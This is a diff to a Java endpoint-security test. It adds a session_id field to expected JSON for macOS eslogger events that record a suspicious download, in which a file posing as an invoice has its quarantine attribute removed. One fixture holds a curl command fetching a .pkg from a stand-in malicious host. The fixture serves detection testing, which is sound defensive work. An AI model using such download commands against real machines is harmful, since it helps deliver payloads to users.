@@ -33,7 +33,7 @@ class EndpointSecurityTest {
                     "command_line":"curl -o \\"/Users/ada/Downloads/my report.pkg\\" https://files.bad.example/a",\
                     "working_directory":"/Users/ada","parent":{"entity_id":"mac-3.corp.example:700:1999","pid":700,\
                     "executable":"/bin/zsh"},"responsible":{"entity_id":"mac-3.corp.example:650:1800","pid":650},\
-                    "code_signature":{"signing_id":"com.apple.curl"}}}"""),
+                    "code_signature":{"signing_id":"com.apple.curl"},"session_id":"100001"}}"""),
             new Story("create", EndpointSecurityFixtures.CREATE, """
                     {"@timestamp":"2026-03-02T10:00:05.801234Z","event":{"action":"file_write","code":"create",\
                     "dataset":"macos.eslogger"},%s,"user":{"id":"501"},\
@@ -41,7 +41,8 @@ class EndpointSecurityTest {
                     "executable":"/Applications/Firefox.app/Contents/MacOS/firefox","name":"firefox",\
                     "parent":{"entity_id":"mac-3.corp.example:1:1","pid":1},\
                     "responsible":{"entity_id":"mac-3.corp.example:913:2101","pid":913},\
-                    "code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"}},\
+                    "code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"},\
+                    "session_id":"100001"},\
                     "file":{"path":"/Users/ada/Downloads/Invoice.dmg.part","name":"Invoice.dmg.part",\
                     "extension":"part"}}"""),
             new Story("rename", EndpointSecurityFixtures.RENAME, """
@@ -51,7 +52,8 @@ class EndpointSecurityTest {
                     "executable":"/Applications/Firefox.app/Contents/MacOS/firefox","name":"firefox",\
                     "parent":{"entity_id":"mac-3.corp.example:1:1","pid":1},\
                     "responsible":{"entity_id":"mac-3.corp.example:913:2101","pid":913},\
-                    "code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"}},\
+                    "code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"},\
+                    "session_id":"100001"},\
                     "file":{"path":"/Users/ada/Downloads/Invoice.dmg","name":"Invoice.dmg","extension":"dmg",\
                     "original_path":"/Users/ada/Downloads/Invoice.dmg.part"}}"""),
             new Story("close", EndpointSecurityFixtures.CLOSE, """
@@ -61,7 +63,8 @@ class EndpointSecurityTest {
                     "executable":"/Applications/Firefox.app/Contents/MacOS/firefox","name":"firefox",\
                     "parent":{"entity_id":"mac-3.corp.example:1:1","pid":1},\
                     "responsible":{"entity_id":"mac-3.corp.example:913:2101","pid":913},\
-                    "code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"}},\
+                    "code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"},\
+                    "session_id":"100001"},\
                     "file":{"path":"/Users/ada/Downloads/Invoice.dmg","name":"Invoice.dmg","extension":"dmg"}}"""),
             new Story("setextattr", EndpointSecurityFixtures.SET_QUARANTINE, """
                     {"@timestamp":"2026-03-02T10:00:05.801234Z","event":{"action":"file_mark","code":"setextattr",\
@@ -70,7 +73,8 @@ class EndpointSecurityTest {
                     "executable":"/Applications/Firefox.app/Contents/MacOS/firefox","name":"firefox",\
                     "parent":{"entity_id":"mac-3.corp.example:1:1","pid":1},\
                     "responsible":{"entity_id":"mac-3.corp.example:913:2101","pid":913},\
-                    "code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"}},\
+                    "code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"},\
+                    "session_id":"100001"},\
                     "file":{"path":"/Users/ada/Downloads/Invoice.dmg","name":"Invoice.dmg","extension":"dmg",\
                     "mark":"set"}}"""),
             new Story("deleteextattr", EndpointSecurityFixtures.DELETE_QUARANTINE, """
@@ -80,7 +84,8 @@ class EndpointSecurityTest {
                     "executable":"/Applications/Firefox.app/Contents/MacOS/firefox","name":"firefox",\
                     "parent":{"entity_id":"mac-3.corp.example:1:1","pid":1},\
                     "responsible":{"entity_id":"mac-3.corp.example:913:2101","pid":913},\
-                    "code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"}},\
+                    "code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"},\
+                    "session_id":"100001"},\
                     "file":{"path":"/Users/ada/Downloads/Invoice.dmg","name":"Invoice.dmg","extension":"dmg",\
                     "mark":"removed"}}"""));
 
@@ -109,7 +114,8 @@ class EndpointSecurityTest {
                 "executable":"/usr/bin/curl","name":"curl","command_line":"curl -o \\"/Users/ada/Downloads/my \
                 report.pkg\\" https://files.bad.example/a","working_directory":"/Users/ada",\
                 "parent":{"entity_id":"U-700-1999","pid":700,"executable":"/bin/zsh"},\
-                "responsible":{"entity_id":"U-650-1800","pid":650},"code_signature":{"signing_id":"com.apple.curl"}}}\
+                "responsible":{"entity_id":"U-650-1800","pid":650},"code_signature":{"signing_id":"com.apple.curl"},\
+                "session_id":"100001"}}\
                 """);
     }
 
